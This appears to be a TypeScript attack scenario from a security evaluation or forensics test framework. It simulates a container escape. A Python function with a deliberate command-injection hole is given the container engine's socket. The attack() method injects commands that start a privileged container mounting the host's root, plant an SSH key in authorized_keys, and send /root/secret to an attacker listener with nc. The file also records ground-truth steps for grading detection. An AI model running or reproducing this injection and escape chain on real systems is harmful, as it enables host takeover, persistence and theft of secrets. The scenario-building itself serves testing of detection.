/**
 * A function asks the container engine how containers are, over the engine's socket, which is mounted into its own
 * container. By an injected command an attacker asks that engine for one more container, which has the host's folders,
 * and sends a secret of the host away from there.
 */
import type { Answered } from '../outside.ts';
import type { Host, Scenario } from '../scenario.ts';
import { engineHost, enginePackages, image, socket, socketFolder } from '../service/engine.ts';
import { functionSteps, gateway, gatewayHost, pythonFunction } from '../service/functions.ts';
import { attacker, client } from '../stage.ts';
import type { ProcessPlace, Truth } from '../truth.ts';

const place = `${attacker}:4444`;
const address = '10.77.0.46';
const host = '10.77.0.47';
const path = '/function/state';
const secret = '/root/secret';
const keys = '/root/.ssh/authorized_keys';
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8s2mZkq0bqk0V0zq8sJq1mW3yX9uT5rE7pN4cL6dQh somebody';
const intruder = 'helper';
/** So long the new container is there afterwards. */
const stay_s = 5;
const services = ['cart', 'search', 'mail', 'stock'];
const api = `curl -s --unix-socket ${socket}`;
const handler = `import logging, subprocess

def handle(body):
    name = body.decode()
    logging.info("state of %s", name)
    command = f"${api} http://engine/containers/{name}/json"
    return subprocess.run(command, shell=True, capture_output=True, text=True).stdout
`;

const runner = pythonFunction('state', address, handler);
const stateHost: Host = { ...runner, volumes: { [socketFolder]: 'engine' } };

export const containerEscape: Scenario = {
  name: 'container-escape',
  title: `an injected command has the container engine start a container that sends a secret of the host away`,
  packages: ['nginx', 'python3', ...enginePackages],
  hosts: [
    engineHost('engine', host, {
      [secret.slice(1)]: 'the secret of the host\n',
      [keys.slice(1)]: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOwner owner\n',
    }),
    stateHost,
    gatewayHost({ state: address }),
  ],
  load: {
    visits: services.map((name) => ({
      weight: 1,
      requests: [{ to: [gateway, 80], method: 'POST', path, body: name, status: [200] }],
    })),
    chores: [{ host: 'engine', command: ['/bin/sh', '-c', `wc -c ${secret} ${keys}; ls /srv`] }],
  },
  async attack(stage) {
    await stage.outside.listen(attacker, 4444);
    const theft = `echo ${key} >>/host${keys}; busybox nc ${attacker} 4444 </host${secret}; busybox sleep ${stay_s}`;
    const wanted = JSON.stringify({
      Image: image,
      Cmd: ['/bin/busybox', 'sh', '-c', theft],
      HostConfig: { Binds: ['/:/host'], NetworkMode: 'host' },
    });
    const create = `-H 'Content-Type: application/json' -d '${wanted}' 'http://engine/containers/create?name=${intruder}'`;
    const orders = [create, `-X POST http://engine/containers/${intruder}/start`].map(
      (order) => `(echo; echo asks $BASHPID; exec ${api} ${order})`,
    );
    const body = `cart/json; bash -c "$(cat <<'.'\n${orders.join('; ')}\n.\n)"; true`;
    const asked = await stage.outside.browser(client).ask(gateway, 80, { method: 'POST', path, body });
    const [loot] = await stage.outside.received(attacker, 4444);
    if (!loot?.text.includes('the secret')) throw new Error(`nothing was stolen: ${asked.body}`);
    return { symptom: place, also: [keys], ...truthOf(asked) };
  },
};

/** By the pids that asked the engine and the id of its new container, as the answer tells them. */
function truthOf(asked: Answered): Pick<Truth, 'rootCause' | 'steps'> {
  const [creator, starter] = [...asked.body.matchAll(/^asks (\d+)$/gm)].map(
    ([, pid]): ProcessPlace => ({ kind: 'process', container: 'state', pid: Number(pid) }),
  ) as [ProcessPlace, ProcessPlace];
  const id = /"Id":"([0-9a-f]{64})"/.exec(asked.body)![1]!;
  return {
    rootCause: { kind: 'connection', from: asked.client, to: `${gateway}:80` },
    steps: [
      ...functionSteps('state', asked),
      {
        what: 'its shell',
        at: { kind: 'process', container: 'state', words: 'containers/cart/json; bash -c' },
      },
      { what: 'the engine is asked for a container', at: creator },
      { what: 'the engine makes it', at: { kind: 'request', container: 'engine', askedBy: creator } },
      { what: 'the engine is asked to start it', at: starter },
      { what: 'the engine starts it', at: { kind: 'request', container: 'engine', askedBy: starter } },
      {
        what: 'the runtime of the container',
        at: { kind: 'process', container: 'engine', words: `/moby/${id}/log.json` },
      },
      {
        what: 'what runs in it',
        at: { kind: 'process', container: intruder, pid: 1 },
      },
      {
        what: 'it reads the secret',
        at: { kind: 'process', container: intruder, words: `nc ${attacker} 4444` },
      },
      { what: 'the secret', at: { kind: 'file', path: secret } },
      { what: 'the loot is sent away', at: { kind: 'connection', from: host, to: place } },
    ],
  };
}
